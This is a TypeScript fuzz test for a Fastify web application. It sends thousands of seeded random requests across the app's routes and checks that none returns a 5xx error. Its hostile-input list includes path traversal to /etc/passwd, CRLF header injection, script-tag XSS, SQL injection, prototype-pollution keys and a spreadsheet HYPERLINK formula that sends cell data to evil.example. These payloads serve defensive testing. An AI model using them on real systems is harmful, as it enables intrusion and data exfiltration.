// Issue 8, deliverable 5: requests generated from the OpenAPI document (every path and method) and from
// the page routes (app.printRoutes), with path parameters plausible and hostile, random JSON, form and
// multipart bodies, random content types, Origin headers and CSRF tokens, as nobody or as a random person
// of the cycle (cookie or bearer). Not one may be a 5xx, and the process must still answer at the end.
// Seeded (FUZZ_SEED, FUZZ_REQUESTS): a failure prints the seed and the requests that failed.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { csrfHeaders, harness, multipart, signIn, type Harness } from './harness.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20260408);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 2000);
const CONCURRENCY = 4;

let h: Harness;
let app: FastifyInstance;
let id: string;
const people = ['office-lin', 'hr-reviewer', 'efficiency-group', 'efficiency-office', 'head-zheng', 'leader-wang', 'review-gov', 'director-zhang'];
const cookies: Record<string, string> = {};
let fileHash = 'a'.repeat(64);

/** mulberry32: small, seeded, good enough to pick from lists. */
function rng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick, chance: (p: number) => next() < p };
}
type Rng = ReturnType<typeof rng>;

const HOSTILE = [
  '', ' ', 'x'.repeat(5000), '../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '%00', '\u0000', '\r\nSet-Cookie: x=1', '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")', "' OR 1=1 --", '😀'.repeat(50), '2019-02-31', '-1', '1e309', 'NaN', '__proto__', 'constructor',
  '%E0%A4%A', '%', '%%', '/\t/evil.example', '//evil.example', 'null', 'true', '0', '9'.repeat(400), '周期', 'T01\u202e', '.', '..',
];
const ALPHABET = 'abcXYZ019-_./%?#&=+ \t<>"\'周期😀\\';

function randomString(r: Rng): string {
  if (r.chance(0.4)) return r.pick(HOSTILE);
  return Array.from({ length: r.int(r.chance(0.1) ? 3000 : 30) }, () => r.pick([...ALPHABET])).join('');
}

function randomValue(r: Rng, depth = 0): unknown {
  switch (r.int(depth > 2 ? 6 : 9)) {
    case 0: return null;
    case 1: return r.chance(0.5);
    case 2: return r.pick([0, -1, 1.5, 7, 100, 1e308, -0, Number.MAX_SAFE_INTEGER + 2]);
    case 3: case 4: return randomString(r);
    case 5: return r.pick(['plan', 'summary-planning', 'T01', 'publicReview', 'paper', 'office-lin', '2030-01-10', 'a'.repeat(64)]);
    case 6: return Array.from({ length: r.int(4) }, () => randomValue(r, depth + 1));
    default: return randomObject(r, depth + 1);
  }
}

const KEYS = ['note', 'comment', 'reason', 'due', 'files', 'mark', 'value', 'source', 'vetoes', 'rows', 'password', 'current', 'login', 'token', 'unit', 'year',
  'people', 'roles', 'departments', 'targetId', 'figure', 'category', 'next', '_csrf', 'back', 'format', '__proto__', 'constructor'];

function randomObject(r: Rng, depth = 0): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  // defineProperty: "__proto__" is an own key, as JSON.parse makes it, not the prototype.
  for (let i = r.int(5); i > 0; i -= 1) Object.defineProperty(o, r.chance(0.85) ? r.pick(KEYS) : randomString(r), { value: randomValue(r, depth), enumerable: true, writable: true, configurable: true });
  if (r.chance(0.2)) o.files = [{ name: randomString(r), sha256: r.chance(0.5) ? fileHash : randomString(r), size: randomValue(r) }];
  return o;
}

/** A path parameter: a real id of the cycle most of the time, or something hostile. */
function param(r: Rng, name: string): string {
  const plausible: Record<string, string[]> = {
    cycleId: [id, id, `${id}-x`, 'perfcycle-jinjiang-zrzy-2019'],
    deliverableId: ['plan', 'summary-planning', 'evidence-law', 'result', 'bonus-list', 'progress-planning-2030-01'],
    targetId: ['T01', 'T14', 'T99'],
    sha256: [fileHash, 'a'.repeat(64), 'A'.repeat(64)],
    name: ['publicReview', 'windowReview', 'inspection', 'incentive', 'nope'],
    token: ['x'.repeat(43), 'short'],
  };
  const raw = r.chance(0.7) && plausible[name] ? r.pick(plausible[name]!) : randomString(r);
  return r.chance(0.9) ? encodeURIComponent(raw) : raw.replace(/[?#\s]/g, '');
}

const CONTENT_TYPES = ['application/json', 'application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain', 'application/xml',
  'multipart/form-data; boundary=nope', 'application/json; charset=utf-16', 'application/octet-stream', 'garbage/;;;', ''];

/** A body of a random kind, with the content type it claims (often not what it is). */
function randomBody(r: Rng): { payload?: string | Buffer; type?: string } {
  const kind = r.int(8);
  if (kind === 0) return {};
  if (kind <= 2) return { payload: JSON.stringify(randomObject(r)), type: r.chance(0.8) ? 'application/json' : r.pick(CONTENT_TYPES) };
  if (kind === 3) {
    const fields = Object.fromEntries(Object.entries(randomObject(r)).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v) ?? '']));
    return { payload: new URLSearchParams(fields).toString(), type: r.chance(0.8) ? 'application/x-www-form-urlencoded' : r.pick(CONTENT_TYPES) };
  }
  if (kind <= 5) {
    const parts = Array.from({ length: 1 + r.int(3) }, () => (r.chance(0.5)
      ? { name: r.pick(['file', 'files', 'roster', 'evidence']), filename: r.pick(['a.pdf', 'targets.csv', 'roster.xlsx', 'x.exe', '../x.pdf', randomString(r)]), content: r.chance(0.5) ? '%PDF x' : randomString(r) }
      : { name: r.pick(['note', 'category', 'format', 'mark', '_csrf', randomString(r) || 'x']), content: randomString(r) }));
    const body = multipart(parts);
    const cut = r.chance(0.2) ? body.payload.subarray(0, r.int(body.payload.length)) : body.payload;
    return { payload: cut, type: r.chance(0.85) ? body.headers['content-type'] : r.pick(CONTENT_TYPES) };
  }
  if (kind === 6) return { payload: r.pick(['{"a":', '[1,2', 'null', '"x"', '{"__proto__":{"x":1}}', '\u0000\u0001', 'x'.repeat(100_000)]), type: r.pick(CONTENT_TYPES) };
  return { payload: randomString(r), type: r.pick(CONTENT_TYPES) };
}

interface Route { method: string; path: string }

/** The page routes (and the calendar feed) from app.printRoutes(): the routes outside the OpenAPI document. */
function pageRoutes(tree: string): Route[] {
  const out: Route[] = [];
  const stack: string[] = [];
  for (const line of tree.split('\n')) {
    const m = /^([│ ]*)[├└]── (.+?) \(([A-Z, ]+)\)$/.exec(line.replace(/\u00a0/g, ' '));
    if (!m) continue;
    const depth = m[1]!.length / 4;
    stack.length = depth;
    const path = `${stack.at(-1) ?? ''}${m[2]}`;
    stack.push(path);
    if (path.startsWith('/api') || path === '/openapi.json' || path === '/health') continue;
    for (const method of m[3]!.split(', ')) if (method !== 'HEAD') out.push({ method, path });
  }
  return out;
}

function request(r: Rng, route: Route): InjectOptions & { label: string } {
  const method = r.chance(0.05) ? r.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS']) : route.method;
  let url = route.path.replace(/\{(\w+)\}|:(\w+)/g, (_, a: string | undefined, b: string | undefined) => param(r, (a ?? b)!));
  if (r.chance(0.3)) {
    const q = new URLSearchParams();
    for (let i = 1 + r.int(3); i > 0; i -= 1) q.set(r.pick(['lang', 'format', 'next', 'done', 'action', 'actor', 'from', 'to', 'deliverable', '_csrf', randomString(r) || 'x']), r.chance(0.5) ? randomString(r) : r.pick(['en', 'zh', 'csv', 'json', 'xlsx', '2030-01-01', 'refused']));
    url += `?${q.toString()}`;
  }
  const headers: Record<string, string> = {};
  const who = r.chance(0.75) ? r.pick(people) : undefined;
  if (who) {
    const session = csrfHeaders(cookies[who]!);
    const how = r.int(10);
    if (how < 6) Object.assign(headers, session); // cookie and token
    else if (how < 8) headers.cookie = session.cookie; // cookie, no token
    else headers.authorization = `Bearer ${/perfcycle_session=([^;]+)/.exec(session.cookie)![1]}`;
    if (how === 5) headers['x-csrf-token'] = randomString(r).replace(/[^\x20-\x7e]/g, '');
  }
  if (r.chance(0.2)) headers.origin = r.pick(['http://portal.test', 'null', 'https://evil.example', 'http://127.0.0.1:1', randomString(r).replace(/[^\x20-\x7e]/g, '')]);
  if (r.chance(0.05)) headers['x-perfcycle-user'] = r.pick(people);
  const body = method === 'GET' || method === 'HEAD' ? {} : randomBody(r);
  if (body.type !== undefined && body.type !== '') headers['content-type'] = body.type;
  return {
    method: method as InjectOptions['method'], url, headers, ...(body.payload !== undefined && { payload: body.payload }),
    label: `${method} ${url.slice(0, 160)} [${headers['content-type'] ?? '-'}] ${who ?? 'nobody'}${headers.origin ? ` origin=${headers.origin.slice(0, 40)}` : ''}`,
  };
}

beforeAll(async () => {
  h = await harness('fuzz');
  app = await h.api();
  id = h.input.cycleId;
  await h.client.start(h.input, 'office-lin');
  await Promise.all(people.map(async (who) => { cookies[who] = await signIn(app, h.dataDir, who); }));
  // A real file, so that some hashes name one.
  const upload = multipart([{ name: 'files', filename: 'plan.pdf', content: '%PDF plan' }]);
  const res = await app.inject({ method: 'POST', url: '/api/files', headers: { ...csrfHeaders(cookies['office-lin']!), ...upload.headers }, payload: upload.payload });
  fileHash = (res.json() as { sha256: string }[])[0]?.sha256 ?? createHash('sha256').update('%PDF plan').digest('hex');
}, 120_000);
afterAll(async () => {
  await h?.close();
});

describe('fuzz', () => {
  it(`answers ${REQUESTS} generated requests without a single 5xx, and is alive afterwards`, { timeout: 120_000 }, async () => {
    const doc = (await app.inject({ method: 'GET', url: '/openapi.json' })).json() as { paths: Record<string, Record<string, unknown>> };
    const apiRoutes: Route[] = Object.entries(doc.paths).flatMap(([path, ops]) => Object.keys(ops).filter((m) => m !== 'head').map((m) => ({ method: m.toUpperCase(), path })));
    const pages = pageRoutes(app.printRoutes({ commonPrefix: false }));
    expect(apiRoutes.length).toBeGreaterThan(25);
    expect(pages.length).toBeGreaterThan(20);
    const routes = [...apiRoutes, ...pages];

    const r = rng(SEED);
    // Every route at least twice, then at random.
    const queue = [...routes, ...routes, ...Array.from({ length: Math.max(0, REQUESTS - 2 * routes.length) }, () => r.pick(routes))].map((route) => request(r, route));
    const statuses: Record<string, number> = {};
    const failures: string[] = [];
    let next = 0;
    const t0 = Date.now();
    await Promise.all(Array.from({ length: CONCURRENCY }, async () => {
      while (next < queue.length) {
        const { label, ...opts } = queue[next++]!;
        const res = await app.inject(opts);
        statuses[res.statusCode] = (statuses[res.statusCode] ?? 0) + 1;
        if (res.statusCode >= 500) failures.push(`${res.statusCode} ${label}: ${res.body.slice(0, 300)}`);
      }
    }));
    const health = await app.inject({ method: 'GET', url: '/health' });
    console.log(JSON.stringify({ fuzz: { seed: SEED, requests: queue.length, routes: routes.length, ms: Date.now() - t0, statuses, health: health.statusCode } }));
    expect(failures, `seed ${SEED}`).toEqual([]);
    expect(queue.length).toBeGreaterThanOrEqual(1000);
    expect(health.statusCode).toBe(200);
  });
});
